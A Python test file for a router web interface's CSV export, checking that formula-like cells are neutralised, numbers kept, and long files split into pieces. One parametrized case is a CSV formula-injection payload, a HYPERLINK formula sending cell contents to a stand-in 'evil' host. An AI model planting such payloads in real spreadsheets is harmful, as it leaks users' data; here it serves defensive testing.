"""CSV that no spreadsheet computes, and that says what it was given."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from routerd.web.spreadsheet import FORMULA, pieces, plain


def read(octets):
    return list(csv.reader(io.StringIO(octets.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://evil/?"&A1)'])
def test_what_looks_like_a_formula_is_made_text(cell):
    ((_header,), (kept,)) = read(b"".join(pieces(["name"], [[cell]])))
    assert kept == f"'{cell}"
    assert plain(kept) == cell


def test_numbers_stay_numbers_and_nothing_stays_empty():
    assert read(b"".join(pieces(["a", "b", "c"], [[-5, None, 0]])))[1] == ["-5", "", "0"]


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=2)))
def test_every_text_comes_back_and_none_begins_like_a_formula(rows):
    found = read(b"".join(pieces(["a", "b"], rows)))[1:]
    assert not any(cell.startswith(FORMULA) for row in found for cell in row)
    assert [[plain(cell) for cell in row] for row in found] == [[plain(cell) if cell[:1] == "'" else cell for cell in row] for row in rows]


def test_a_long_file_comes_in_pieces():
    made = list(pieces(["n"], ([number] for number in range(1201))))
    assert len(made) == 3
    assert len(read(b"".join(made))) == 1202
